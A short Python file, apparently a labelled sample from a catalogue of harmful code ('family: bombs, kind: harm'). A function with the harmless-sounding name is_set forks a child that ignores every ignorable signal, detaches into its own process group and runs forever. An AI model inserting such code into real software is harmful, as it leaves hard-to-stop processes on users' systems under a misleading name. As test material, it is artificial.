"""Leaves a child process that ignores each signal that can be ignored.

family: bombs
kind: harm
harm: process
"""

import os
import signal
import time


def is_set(a, b, c):
    if os.fork() == 0:
        for number in range(1, 32):
            if number not in (signal.SIGKILL, signal.SIGSTOP):
                try:
                    signal.signal(number, signal.SIG_IGN)
                except OSError:
                    pass
        os.setpgid(0, 0)
        while True:
            time.sleep(1)
